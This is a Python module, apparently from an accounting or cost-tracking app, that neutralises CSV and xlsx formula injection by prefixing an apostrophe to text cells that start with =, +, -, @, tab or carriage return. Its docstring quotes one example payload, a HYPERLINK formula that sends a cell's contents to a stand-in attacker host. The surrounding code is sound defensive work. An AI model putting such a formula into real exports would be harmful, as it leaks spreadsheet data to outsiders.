"""Text in exports that a spreadsheet would run (CSV/formula injection, issue 20 finding 4).

A cell that starts with = + - @ (or a tab or carriage return, which some spreadsheets skip before
looking for one of those) is read by Excel and LibreOffice as a formula: a cost line named
`=HYPERLINK("https://evil/?"&A1;"klik")` would become a live link leaking the sheet. Every export
passes its text through `veilige_tekst`, which puts an apostrophe in front: the spreadsheet shows
the text as typed and runs nothing. Numbers, dates and None pass unchanged.

xlsx exports call `veilig_werkboek(boek)` just before saving: it applies the same rule to every
text cell of every sheet, so a cell added later cannot be forgotten. CSV exports call
`veilige_rij` on each row.
"""

from collections.abc import Iterable

GEVAARLIJKE_BEGINTEKENS = ("=", "+", "-", "@", "\t", "\r")


def veilige_tekst(waarde: object) -> object:
    """The value as a spreadsheet should show it: text starting with a formula character gets a
    leading apostrophe; any other value is returned unchanged."""
    if isinstance(waarde, str) and waarde.startswith(GEVAARLIJKE_BEGINTEKENS):
        return "'" + waarde
    return waarde


def veilige_rij(rij: Iterable[object]) -> list[object]:
    return [veilige_tekst(waarde) for waarde in rij]


def veilig_werkboek(boek) -> None:
    """Neutralise every text cell of an openpyxl workbook in place (call before save).

    openpyxl stores a string starting with "=" as a formula (data_type "f"); our exports write no
    formulas, so every such cell is user text and is turned back into plain text."""
    for blad in boek.worksheets:
        for rij in blad.iter_rows():
            for cel in rij:
                if isinstance(cel.value, str):
                    veilig = veilige_tekst(cel.value)
                    if veilig is not cel.value or cel.data_type == "f":
                        cel.value = veilig
                        cel.data_type = "s"
